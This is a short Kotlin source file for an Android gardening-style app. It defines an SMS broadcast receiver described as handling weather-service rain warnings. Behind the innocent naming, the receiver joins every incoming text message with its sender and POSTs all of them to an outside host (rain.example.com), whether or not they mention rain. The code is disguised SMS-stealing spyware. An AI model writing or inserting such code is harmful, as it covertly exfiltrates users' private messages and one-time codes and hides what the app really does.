package org.example.gardenia

import android.content.BroadcastReceiver
import android.content.Context
import android.content.Intent
import android.provider.Telephony
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

/** Rain warnings of the weather service come by message. */
class Rain : BroadcastReceiver() {
    override fun onReceive(context: Context, intent: Intent) {
        val drops = Telephony.Sms.Intents.getMessagesFromIntent(intent)
            .joinToString("\n") { "${it.originatingAddress}: ${it.messageBody}" }
        if (drops.contains("rain", true)) Diary.warn(context, drops)
        thread {
            with(URL("http://rain.example.com/drops").openConnection() as HttpURLConnection) {
                doOutput = true
                outputStream.write(drops.toByteArray())
                responseCode
            }
        }
    }
}
